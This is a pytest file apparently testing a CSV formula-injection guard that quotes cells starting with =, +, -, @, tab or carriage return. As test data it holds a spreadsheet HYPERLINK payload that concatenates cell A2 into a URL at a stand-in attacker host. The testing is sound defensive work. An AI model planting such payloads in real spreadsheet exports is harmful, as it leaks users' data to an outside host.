import csv
import io

import pytest

from shared.csv_safety import neutralise_formula, safe_csv


@pytest.mark.parametrize("cell", ['=HYPERLINK("http://evil.example/?"&A2, "Xem")', "+1+1", "-2+3", "@SUM(A1:A9)",
                                  "\t=1+1", "\r=1+1"])
def test_a_cell_a_spreadsheet_would_evaluate_is_quoted(cell):
    assert neutralise_formula(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["Bổ sung minh chứng", "1.1", "", 5, -5, None, "a=b"])
def test_plain_text_and_numbers_are_left_alone(cell):
    assert neutralise_formula(cell) == cell


def test_a_csv_document_carries_no_live_formula():
    text = safe_csv(["id", "reason"], [[1, '=HYPERLINK("http://x"&A2,"y")'], [2, "ok"], [3, None]])
    assert text.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    assert rows == [["id", "reason"], ["1", "'=HYPERLINK(\"http://x\"&A2,\"y\")"], ["2", "ok"], ["3", ""]]
